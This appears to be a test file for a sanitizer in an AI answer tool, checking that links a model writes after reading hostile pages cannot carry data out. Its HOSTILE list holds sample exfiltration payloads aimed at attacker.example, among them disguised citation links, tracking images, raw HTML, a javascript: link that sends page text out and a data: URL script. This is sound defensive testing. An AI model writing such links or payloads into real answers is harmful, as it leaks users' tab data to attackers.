/**
 * One click cannot exfiltrate (SECURITY.md, "Links and exports"). The model's answer is written
 * after reading hostile pages, so it may hold links built to carry tab data out. In the panel
 * (SafeMarkdown, rendered to HTML and parsed back) and in both exports ("Copy as Markdown",
 * "Copy as text") only the run's validated sources are links; every other address the model
 * wrote is visible as text; no bare number is a link or a chip; no image, raw HTML or non-http
 * link survives.
 */
import { parseHTML } from 'linkedom';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { SafeMarkdown } from '../../../components/Markdown';
import { sanitizeMarkdown } from '../../../lib/export/safe-markdown';
import { toMarkdown, toPlainText } from '../../../lib/export/render';
import { newRun } from '../../../lib/pipeline/run-state';
import type { Run, Source } from '../../../lib/core/run';

const SOURCE: Source = { n: 1, passageId: 'p1', url: 'https://en.wikipedia.org/wiki/Marie_Curie', title: 'Marie Curie', site: 'en.wikipedia.org', origin: 'web', quote: 'born in Warsaw' };
const ATTACKER = 'http://attacker.example/c?d=739-114';

/** What the model may write to get a click (each on its own line of the answer). */
const HOSTILE: [string, string][] = [
  ['a citation-like number linking out', `Born in Warsaw [1](${ATTACKER}).`],
  ['a number in brackets linking out, spaced', `See [ 2 ](${ATTACKER}) for more.`],
  ['a reference-style number', `Born in Warsaw [1][x].\n\n[x]: ${ATTACKER}`],
  ['a shortcut reference that shadows a citation', `Born in Warsaw [1].\n\n[1]: ${ATTACKER}`],
  ['an ordinary model link', `Read [the official biography](${ATTACKER}).`],
  ['a link styled as the source', `[Marie Curie — Wikipedia](${ATTACKER})`],
  ['a bare address', `More at ${ATTACKER} today.`],
  ['an angle-bracket autolink', `More at <${ATTACKER}>.`],
  ['a www literal', 'More at www.attacker.example/c?d=739114 today.'],
  ['an e-mail literal', 'Write to leak739114@attacker.example now.'],
  ['a remote image (loads on render)', `![pixel](${ATTACKER}&img=1)`],
  ['a linked image', `[![logo](${ATTACKER}&img=2)](${ATTACKER})`],
  ['raw HTML link', `<a href="${ATTACKER}">1</a>`],
  ['raw HTML image', `<img src="${ATTACKER}">`],
  ['javascript: link', '[1](javascript:fetch("http://attacker.example/"+document.body.innerText))'],
  ['data: link', '[open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
  ['a forged citation anchor', '[click here](#cite-1)'],
];

/** What mail and chat apps link in pasted text: scheme addresses, www., e-mail addresses, dotted
 * host names with a path or a common top-level domain. */
const AUTOLINKED = /\b(?:https?|ftp):\/\/[^\s<>"]+|\bwww\.[^\s<>"]+|[\w.+-]+@[\w-]+(?:\.[\w-]+)+|\b(?:[a-z0-9-]+\.)+(?:com|org|net|io|example|test)\b(?:\/[^\s<>"]*)?/gi;

function panel(md: string, sources: Source[] = [SOURCE]) {
  const html = renderToStaticMarkup(<SafeMarkdown text={md} sources={sources} />);
  const { document } = parseHTML(`<!doctype html><html><body>${html}</body></html>`);
  return { html, document, text: document.body.textContent ?? '' };
}

function runWith(answer: string): Run {
  return { ...newRun('r', 'ask', { text: 'Where was Marie Curie born?' }, 0), status: 'done', answer, answerFinal: true, sources: [SOURCE] };
}

describe('in the panel, only validated sources are links', () => {
  it.each(HOSTILE)('%s', (_name, md) => {
    const { html, document } = panel(md);
    const hrefs = [...document.querySelectorAll('a')].map((a) => a.getAttribute('href'));
    expect(hrefs.filter((h) => h !== SOURCE.url)).toEqual([]);
    expect(html).not.toMatch(/<img|<script|javascript:|data:text/i);
    // No chip for anything but citation 1 of a real source, and that only as our own button.
    for (const chip of document.querySelectorAll('[data-cite]')) expect(chip.getAttribute('data-cite')).toBe('1');
  });

  it('shows the address of a model link as text, so the user sees where it goes', () => {
    const { text, document } = panel(`Born in Warsaw [1](${ATTACKER}).`);
    expect(text).toContain(ATTACKER);
    expect(document.querySelectorAll('a').length).toBe(0);
  });

  it('keeps what is genuine: a source link and a citation chip for a real source', () => {
    const { document } = panel(`Born in Warsaw [1]; see [Wikipedia](${SOURCE.url}).`);
    expect([...document.querySelectorAll('a')].map((a) => a.getAttribute('href'))).toEqual([SOURCE.url]);
    expect(document.querySelectorAll('[data-cite="1"]').length).toBe(1);
  });

  it('a marker for a source that does not exist is not a chip', () => {
    const { document, text } = panel('Born in Warsaw [7].');
    expect(document.querySelectorAll('[data-cite], a, button').length).toBe(0);
    expect(text).toContain('[7]');
  });
});

describe('exports go through the same sanitizer', () => {
  it.each(HOSTILE)('Copy as Markdown: %s', (_name, md) => {
    const out = toMarkdown(runWith(md));
    // Parsed back as a Markdown reader would: only the source list's link is a link.
    const { document } = panel(out.replace(/\[(\d+)\](?!\()/g, '($1)'), []);
    expect(document.querySelectorAll('a').length).toBe(0);
    expect(sanitizeMarkdown(out, [SOURCE.url])).toBe(out);
    expect(out).not.toMatch(/!\[|<img|<a |javascript:|data:text/i);
    expect(out).toContain(`[Marie Curie](${SOURCE.url})`);
  });

  it.each(HOSTILE)('Copy as text: %s', (_name, md) => {
    const out = toPlainText(runWith(md));
    expect(out).not.toMatch(/<img|<a |javascript:|data:text|!\[/i);
    // Pasted into a mail or chat app, nothing the model wrote becomes a link there either.
    const body = out.slice(0, out.indexOf('\nSources:'));
    expect(body.match(AUTOLINKED) ?? []).toEqual([]);
  });

  it('keeps the answer as written where nothing is wrong (markers, emphasis, tables)', () => {
    const md = 'Born in **Warsaw** [1].\n\n| a | b |\n| - | - |\n| 1 | 2 |';
    expect(toMarkdown(runWith(md))).toContain(md);
  });
});
